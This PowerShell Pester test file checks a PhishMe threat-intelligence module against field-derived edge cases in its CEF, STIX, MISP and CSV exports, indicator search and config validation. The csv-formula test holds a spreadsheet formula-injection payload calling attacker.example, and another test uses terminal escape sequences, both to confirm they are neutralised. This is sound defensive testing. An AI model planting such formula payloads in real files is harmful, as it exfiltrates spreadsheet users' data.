#Requires -Modules @{ ModuleName = 'Pester'; ModuleVersion = '5.0' }

# Inputs that broke tools of this kind in the field, one test each. They lie beside the repository (../shared/cases), or where PHISHME_SHARED says.

BeforeDiscovery {
    $cases = Join-Path ($env:PHISHME_SHARED ?? (Join-Path $PSScriptRoot '../../../shared')) 'cases'
    $areThere = Test-Path -LiteralPath $cases
    $table = @(
        'benign-in-block-list', 'private-hosts-and-empty-hash', 'nul-in-value', 'no-dates', 'percent-encoded-links', 'csv-formula', 'terminal-escapes'
        'indicator-taken-back', 'cef-dst-not-an-address', 'ssdeep-with-file-name', 'mapped-ipv6', 'odd-ip-hosts', 'idn-forms', 'log-forms', 'gzip-log'
        'defang-forms', 'stix-same-id-other-content', 'fifo-append', 'base-url-without-path', 'time-zones-of-since', 'proxy-bypass-forms', 'valid-until'
        'misp-invalid-attributes', 'tlp-amber-strict', 'unknown-block-types', 'bom-before-json', 'smart-quotes-in-password', 'pretty-json-pipe'
        'deep-nesting', 'windows-path-elsewhere', 'view-column-label'
    )
}

BeforeAll {
    . (Join-Path $PSScriptRoot 'Connected.ps1')
    . (Join-Path $PSScriptRoot 'FreshShell.ps1')
    . (Join-Path $PSScriptRoot 'SyslogCollector.ps1')
    . (Join-Path $PSScriptRoot 'CannedServer.ps1')
    $cases = Join-Path ($env:PHISHME_SHARED ?? (Join-Path $PSScriptRoot '../../../shared')) 'cases'
    $simulator = $null
    if (-not (Test-Path -LiteralPath $cases)) {
        return
    }

    # Everything that is looked up, in one store.
    $documents = (New-Item -ItemType Directory -Path (Join-Path $TestDrive 'documents')).FullName
    foreach ($name in 'csv-formula', 'defang-forms', 'gzip-log', 'idn-forms', 'log-forms', 'mapped-ipv6', 'odd-ip-hosts', 'percent-encoded-links', 'terminal-escapes', 'time-zones-of-since') {
        Get-ChildItem -LiteralPath (Join-Path $cases $name) -Filter *.json | Copy-Item -Destination (Join-Path $documents "$name.json")
    }
    $simulator = Connect-ToSimulator '--load', $documents
    $store = Join-Path $TestDrive 'store.db'
    $null = Sync-PhishMeIntelligence -Since 2010-01-01 -Store $store
    Disconnect-PhishMe
    $out = Join-Path $TestDrive 'out.txt'

    function Get-CaseFile { param([string] $Name, [string] $File = 'threat.json') Join-Path -Path $cases -ChildPath $Name -AdditionalChildPath $File }

    function Read-Case { param([string] $Name, [string] $File = 'threat.json') Get-Content -Raw -LiteralPath (Get-CaseFile $Name $File) | ConvertFrom-PhishMeJson }

    function Get-Written { Get-Content -Raw -LiteralPath $out }

    function Get-MispAttribute { @((Get-Written | ConvertFrom-Json -Depth 50).response.Event.Attribute) }

    function Get-StixObject { @(Get-Content -LiteralPath $out | ForEach-Object { (ConvertFrom-Json $_ -Depth 50).objects }) }

    # The configuration of a case in a folder of its own, with everything else in order.
    function New-CaseConfiguration {
        [Diagnostics.CodeAnalysis.SuppressMessageAttribute('PSUseShouldProcessForStateChangingFunctions', '', Justification = 'Writes into a folder of the test.')]
        param([string] $Name, [string] $BaseUri = $simulator.BaseUri, [hashtable] $Api = @{})
        $folder = (New-Item -ItemType Directory -Path (Join-Path $TestDrive "$Name-$([guid]::NewGuid().ToString('n'))")).FullName
        $part = Get-Content -LiteralPath (Get-CaseFile $Name 'config.ini.part') | Where-Object { $_ -notmatch '^(\[pm_api\]|base_url|user|pass)' }
        Save-Configuration $simulator (Join-Path $folder 'config.ini') -Api (@{ base_url = $BaseUri; init_date = '2026-01-01' } + $Api) -More $part
        Join-Path $folder 'config.ini'
    }

    function Get-Finding { param([string] $ConfigPath) @((Test-PhishMeConfiguration -LiteralPath $ConfigPath).Findings) }
}

AfterAll {
    if ($simulator) {
        Disconnect-FromSimulator $simulator
    }
}

Describe 'The field cases' {
    It 'are all here' -Skip:(-not $areThere) -ForEach @(@{ Table = $table }) {
        $tested = Select-String -LiteralPath (Join-Path $PSScriptRoot 'FieldCases.Tests.ps1') -Pattern "^    It '([a-z0-9-]+):" | ForEach-Object { $_.Matches[0].Groups[1].Value }
        $tested | Should -Be $Table
        $Table | Where-Object { $_ -ne 'view-column-label' } | Sort-Object | Should -Be (Get-ChildItem -LiteralPath $cases -Directory).Name
    }
}

Describe 'A field case' -Skip:(-not $areThere) {
    It 'benign-in-block-list: a block list has what the vendor calls malicious' {
        Read-Case 'benign-in-block-list' | Export-PhishMeIndicatorList -Path $out
        Get-Content -LiteralPath $out | Should -Be 'c2-01.example'
    }

    It 'private-hosts-and-empty-hash: a block list has no private host in a URL and no hash of the empty file' {
        Read-Case 'private-hosts-and-empty-hash' | Export-PhishMeIndicatorList -Path $out
        Get-Content -LiteralPath $out | Should -Be 'c2-02.example'
    }

    It 'nul-in-value: no NUL reaches a file or a collector, and an event is one record' {
        Read-Case 'nul-in-value' | Export-PhishMeCef -Path $out
        $bytes = [IO.File]::ReadAllBytes($out)
        $bytes | Should -Not -Contain 0
        $collector = Start-SyslogCollector
        try {
            Read-Case 'nul-in-value' | ConvertTo-PhishMeCef | Send-PhishMeSyslog -ComputerName 127.0.0.1 -Port $collector.Port -Transport Tcp
            $records = $collector.Take(2).ForEach({ $_.Split([char]0) })
        }
        finally {
            $collector.Dispose()
        }
        $records | Should -HaveCount 2
    }

    It 'no-dates: nothing is dated 1970, nothing is computed from it' {
        Read-Case 'no-dates' | Export-PhishMeStix -Path $out
        Get-Written | Should -Not -Match '1970'
        Read-Case 'no-dates' | Export-PhishMeMisp -Path $out
        Get-Written | Should -Not -Match '1970|"timestamp":"0"'
    }

    It 'percent-encoded-links: encoded links in a log and as values are found' {
        $found = Find-PhishMeIndicator -LiteralPath (Get-CaseFile 'percent-encoded-links' 'proxy.log') -Store $store
        $found.LineNumber | Sort-Object -Unique | Should -Be 1, 2, 3
        Find-PhishMeIndicator 'evil05%2Eexample' -Store $store | Should -Not -BeNullOrEmpty
    }

    It 'csv-formula: a title that is a formula does not begin its cell' {
        Read-Case 'csv-formula' 'phish.json' | Export-PhishMeIndicatorList -Path $out -Format Csv
        $row = Import-Csv -LiteralPath $out | Select-Object -First 1
        $row.label | Should -Be "'=HYPERLINK(`"http://attacker.example/?`"&A1,`"Sign in`")"
    }

    It 'terminal-escapes: a terminal gets no escape sequence, and the object keeps its value' {
        $found = Find-PhishMeIndicator page07.example -Store $store
        $found | Out-String | Should -Not -Match "`e"
        (Get-PhishMeThreat -FromStore -Store $store).Where({ $_.Id.Number -eq 9107 }).ForEach({ $_ | Out-String }) | Should -Not -Match "`e\[[12]"
        $found[0].Label | Should -Match "`e"
    }

    It 'indicator-taken-back: what an update no longer has is revoked in STIX 2.1 and deleted in MISP from the store' {
        $folder = (New-Item -ItemType Directory -Path (Join-Path $TestDrive 'taken-back')).FullName
        $append = Join-Path $folder 'stix.jsonl'
        $server = Start-Simulator
        try {
            $configuration = Join-Path $folder 'config.ini'
            Save-Configuration $server $configuration -Api @{ init_date = '2026-01-01' } -More '[integration_raw_stix]', 'use = True', 'version = 2.1', 'append_file_use = True', "append_file_location = $append", '[local_sqlite]', 'use = True'
            $root = ([uri]$server.BaseUri).GetLeftPart('Authority')
            foreach ($file in 'before.json', 'after.json') {
                $threat = Get-Content -Raw -LiteralPath (Get-CaseFile 'indicator-taken-back' $file) | ConvertFrom-Json -Depth 50
                $threat.firstPublished = [DateTimeOffset]::UtcNow.AddMinutes(-10).ToUnixTimeMilliseconds()
                $threat.lastPublished = [DateTimeOffset]::UtcNow.ToUnixTimeMilliseconds()
                $null = Invoke-RestMethod -Method Post -Uri "$root/_simulator/publish" -Body (ConvertTo-Json $threat -Depth 50 -Compress) -ContentType 'application/json'
                (Invoke-PhishMeIntegration -ConfigPath $configuration).ExitCode | Should -Be 'Done'
            }
        }
        finally {
            Stop-Simulator $server
        }
        $objects = @(Get-Content -LiteralPath $append | Select-Object -Last 1 | ForEach-Object { (ConvertFrom-Json $_ -Depth 50).objects })
        $objects.Where({ $_.type -eq 'indicator' -and $_.revoked }).name | Should -Be 'falsepositive08.example'
        $objects.Where({ $_.name -eq 'keep08.example' }).revoked | Should -BeNullOrEmpty
        Export-PhishMeMisp -Path $out -FromStore -ConfigPath $configuration
        $attributes = @(Get-MispAttribute)
        $attributes.Where({ $_.value -eq 'falsepositive08.example' }).deleted | Should -BeTrue
        $attributes.Where({ $_.value -eq 'keep08.example' }).deleted | Should -BeFalse
        Export-PhishMeStix -Path $out -FromStore -ConfigPath $configuration
        (Get-StixObject).Where({ $_.type -eq 'indicator' -and $_.revoked }).name | Should -Be 'falsepositive08.example'
    }

    It 'cef-dst-not-an-address: dst is an address' {
        Read-Case 'cef-dst-not-an-address' | Export-PhishMeCef -Path $out
        $lines = Get-Content -LiteralPath $out
        $lines | Should -HaveCount 3
        $addresses = [regex]::Matches($lines, ' dst=(\S*)').ForEach({ $_.Groups[1].Value })
        $addresses | Should -Be '203.0.113.90', '203.0.113.93'
        $lines[2] | Should -Match '203\.0\.113\.96/28'
    }

    It 'ssdeep-with-file-name: the hash is in form, and its neighbour goes out' {
        Read-Case 'ssdeep-with-file-name' | Export-PhishMeStix -Path $out
        $patterns = (Get-StixObject).pattern
        $patterns | Should -Contain "[domain-name:value = 'innocent10.example']"
        $patterns | Should -Contain "[file:hashes.SSDEEP = '192:aB+/c:dE']"
        Read-Case 'ssdeep-with-file-name' | Export-PhishMeMisp -Path $out
        (Get-MispAttribute).Where({ $_.type -eq 'ssdeep' }).value | Should -Be '192:aB+/c:dE'
    }

    It 'mapped-ipv6: the IPv4 address is found' {
        Find-PhishMeIndicator 203.0.113.110 -Store $store | Should -Not -BeNullOrEmpty
    }

    It 'odd-ip-hosts: the addresses are found, and an allow list covers them' {
        (Find-PhishMeIndicator 203.0.113.122, 203.0.113.123 -Store $store).Input | Sort-Object -Unique | Should -Be '203.0.113.122', '203.0.113.123'
        Read-Case 'odd-ip-hosts' | Export-PhishMeIndicatorList -Path $out -AllowList 203.0.113.0/24
        Get-Content -LiteralPath $out | Should -BeNullOrEmpty
    }

    It 'idn-forms: the composed name and the name without ligature are found, and STIX names them' {
        (Find-PhishMeIndicator "b$([char]0xFC)ro13.example", 'file13.example' -Store $store).Input | Sort-Object -Unique | Should -HaveCount 2
        Read-Case 'idn-forms' | Export-PhishMeStix -Path $out
        (Get-StixObject).pattern | Should -Contain "[domain-name:value = 'xn--bro13-kva.example']"
        (Get-StixObject).pattern | Should -Contain "[domain-name:value = 'file13.example']"
    }

    It 'log-forms: address.port of tcpdump is found' {
        (Find-PhishMeIndicator -LiteralPath (Get-CaseFile 'log-forms' 'traffic.log') -Store $store).LineNumber | Sort-Object -Unique | Should -Be 1, 2
    }

    It 'gzip-log: a compressed log is read' {
        (Find-PhishMeIndicator -LiteralPath (Get-CaseFile 'gzip-log' 'access.log.1.gz') -Store $store).MatchedValue | Should -Be 'evil15.example'
    }

    It 'defang-forms: every form is understood' {
        $values = Get-Content -LiteralPath (Get-CaseFile 'defang-forms' 'values.txt')
        ($values | Find-PhishMeIndicator -Store $store).Input | Should -Be $values
    }

    It 'stix-same-id-other-content: one id and one version have one content' {
        'one.json', 'two.json' | ForEach-Object { Read-Case 'stix-same-id-other-content' $_ } | Export-PhishMeStix -Path $out
        Get-Written | Should -Not -BeNullOrEmpty
        $all = 'one.json', 'two.json' | ForEach-Object {
            Read-Case 'stix-same-id-other-content' $_ | Export-PhishMeStix -Path $out
            Get-StixObject
        }
        $all | Where-Object { $_.modified } | Group-Object { "$($_.id) $($_.modified.Ticks)" } | ForEach-Object {
            $_.Group | ForEach-Object { ConvertTo-Json $_ -Depth 20 -Compress } | Sort-Object -Unique | Should -HaveCount 1
        }
    }

    It 'fifo-append: a pipe as append file is refused by section and key, and a run ends with 10' -Skip:$IsWindows {
        $configuration = New-CaseConfiguration 'fifo-append'
        & mkfifo (Join-Path (Split-Path $configuration) 'events.cef')
        $finding = (Get-Finding $configuration).Where({ $_.Severity -eq 'Error' })
        $finding.Section | Should -Be 'integration_raw_cef'
        $finding.Key | Should -Be 'append_file_location'
        [int](Invoke-PhishMeIntegration -ConfigPath $configuration -ErrorAction SilentlyContinue).ExitCode | Should -Be 10
    }

    It 'base-url-without-path: a 404 to the first request names base_url and what it looks like' {
        $server = Start-CannedServer -Status 404
        try {
            $configuration = New-CaseConfiguration 'base-url-without-path' -BaseUri "http://127.0.0.1:$($server.Port)"
            $summary = Invoke-PhishMeIntegration -ConfigPath $configuration -ErrorVariable failure -ErrorAction SilentlyContinue
        }
        finally {
            $server.Dispose()
        }
        [int]$summary.ExitCode | Should -Be 13
        $failure[0].ErrorDetails.Message | Should -Match 'base_url'
        $failure[0].ErrorDetails.Message | Should -Match '/apiv1'
        $failure[0].ErrorDetails.RecommendedAction | Should -Not -Match 'Wait'
    }

    It 'time-zones-of-since: both front doors read a bare date as UTC' {
        $before = $env:TZ
        $env:TZ = 'America/New_York'
        try {
            Invoke-Pwsh -NoProfile -NonInteractive -Command "Import-Module '$env:PHISHME_STAGED_MODULE/PhishMe.psd1'; (Find-PhishMeIndicator tz21.example -Since 2026-11-26 -Store '$store').MatchedValue" |
                Should -Be 'tz21.example'
        }
        finally {
            $env:TZ = $before
        }
    }

    It 'proxy-bypass-forms: a network as bypass entry works' {
        $configuration = New-CaseConfiguration 'proxy-bypass-forms'
        (Get-Finding $configuration).Where({ $_.Key -eq 'bypass' }) | Should -BeNullOrEmpty
        Set-Content -LiteralPath $configuration -Value (@(Get-Content -LiteralPath $configuration) + '[integration_raw_json]', 'use = True', 'append_file_use = True', 'append_file_location = threats.json')
        [int](Invoke-PhishMeIntegration -ConfigPath $configuration -ErrorAction SilentlyContinue).ExitCode | Should -Be 0
    }

    It 'valid-until: an old threat is not dead on arrival' {
        Read-Case 'valid-until' | Export-PhishMeStix -Path $out
        $indicator = (Get-StixObject).Where({ $_.type -eq 'indicator' })[0]
        if ($indicator.valid_until) {
            $indicator.valid_until | Should -BeGreaterThan ([datetime]::UtcNow)
        }
        (Get-Help Export-PhishMeStix -Parameter ValidDays).description.Text | Should -Match 'valid_until'
    }

    It 'misp-invalid-attributes: a folded subject is one line, and its neighbour goes out' {
        Read-Case 'misp-invalid-attributes' | Export-PhishMeMisp -Path $out
        (Get-MispAttribute).value | Should -Contain 'evil24.example'
        (Get-MispAttribute).Where({ $_.type -eq 'email-subject' }).value | Should -Not -Match "[`r`n]"
    }

    It 'tlp-amber-strict: TLP 2.0 is accepted in config.ini and by cmdlets' {
        (Get-Finding (New-CaseConfiguration 'tlp-amber-strict')).Where({ $_.Key -eq 'tlp' }) | Should -BeNullOrEmpty
        Read-Case 'valid-until' | Export-PhishMeStix -Path $out -Tlp 'amber+strict'
        (Get-StixObject).Where({ $_.type -eq 'marking-definition' }).id | Should -Be 'marking-definition--939a9414-2ddd-4d32-a0cd-375ea402b003'
        Read-Case 'valid-until' | Export-PhishMeStix -Path $out -Tlp White
        (Get-StixObject).Where({ $_.type -eq 'marking-definition' }).id | Should -Be 'marking-definition--613f2e26-407d-48c7-9eca-b8e91df99dc9'
    }

    It 'unknown-block-types: they reach CEF and STIX as what they are' {
        Read-Case 'unknown-block-types' | Export-PhishMeCef -Path $out
        Get-Written | Should -Match '0123456789abcdef0123456789abc126'
        Get-Written | Should -Match 'fq26\.example'
        Read-Case 'unknown-block-types' | Export-PhishMeStix -Path $out
        (Get-StixObject).pattern | Should -Contain "[file:hashes.MD5 = '0123456789abcdef0123456789abc126']"
        (Get-StixObject).pattern | Should -Contain "[domain-name:value = 'fq26.example']"
    }

    It 'bom-before-json: an answer behind a byte order mark is read' {
        $server = Start-CannedServer -Status 200 -Body ([IO.File]::ReadAllBytes((Get-CaseFile 'bom-before-json' 'feed-answer.json')))
        try {
            Connect-PhishMe -Credential $simulator.Credential -BaseUri "http://127.0.0.1:$($server.Port)/apiv1" -ErrorAction Stop
            Disconnect-PhishMe
        }
        finally {
            $server.Dispose()
        }
    }

    It 'smart-quotes-in-password: a finding names the key and not the value' {
        $line = Get-Content -LiteralPath (Get-CaseFile 'smart-quotes-in-password' 'config.ini.part') | Where-Object { $_ -match '^pass' }
        $secret = ($line -split '=', 2)[1].Trim()
        $configuration = New-CaseConfiguration 'smart-quotes-in-password' -Api @{ pass = $secret }
        $finding = (Get-Finding $configuration).Where({ $_.Section -eq 'pm_api' -and $_.Key -eq 'pass' })
        $finding | Should -HaveCount 1
        $finding[0].Message | Should -Not -Match 'invented'
    }

    It 'pretty-json-pipe: pretty-printed JSON through a pipe is one threat, and one threat per line goes on working' {
        $read = @(Get-Content -LiteralPath (Get-CaseFile 'pretty-json-pipe') | ConvertFrom-PhishMeJson -ErrorVariable failure -ErrorAction SilentlyContinue)
        $failure | Should -BeNullOrEmpty
        $read.Id | Should -Be 'm_9129'
        $line = $read | ConvertTo-PhishMeJson
        @($line, $line | ConvertFrom-PhishMeJson) | Should -HaveCount 2
    }

    It 'deep-nesting: a threat with a field nested deep is delivered' {
        $folder = (New-Item -ItemType Directory -Path (Join-Path $TestDrive 'deep')).FullName
        Copy-Item -LiteralPath (Get-CaseFile 'deep-nesting') -Destination $folder
        $server = Start-Simulator '--load', $folder
        try {
            $configuration = Join-Path $TestDrive 'deep.ini'
            Save-Configuration $server $configuration -Api @{ init_date = '2026-01-01' } -More '[integration_raw_json]', 'use = True', 'append_file_use = True', 'append_file_location = deep.jsonl'
            $summary = Invoke-PhishMeIntegration -ConfigPath $configuration -ErrorAction SilentlyContinue
        }
        finally {
            Stop-Simulator $server
        }
        $summary.ExitCode | Should -Be 'Done'
        (Get-Content -LiteralPath (Join-Path $TestDrive 'deep.jsonl') | ConvertFrom-PhishMeJson).Indicators.Value | Should -Be 'deep30.example'
    }

    It 'windows-path-elsewhere: a finding names section and key, and no file of that name is made' -Skip:$IsWindows {
        $configuration = New-CaseConfiguration 'windows-path-elsewhere'
        $finding = (Get-Finding $configuration).Where({ $_.Key -eq 'append_file_location' })
        $finding.Section | Should -Be 'integration_raw_cef'
        $null = Invoke-PhishMeIntegration -ConfigPath $configuration -ErrorAction SilentlyContinue
        Get-ChildItem -LiteralPath (Split-Path $configuration) -Filter 'C:*' | Should -BeNullOrEmpty
    }

    It 'view-column-label: every column of the default view has a name' {
        $text = (Find-PhishMeIndicator evil16.example -Store $store | Out-String -Width 160).Trim().Split("`n")
        $rule = $text.IndexOf(($text -match '^ *-+( +-+)* *$')[0])
        $rule | Should -Be 1
        $text[0] | Should -Not -Match '[\{\}\$]'
        $text[0].Trim() -split ' +' | Should -HaveCount ($text[1].Trim() -split ' +').Count
    }
}
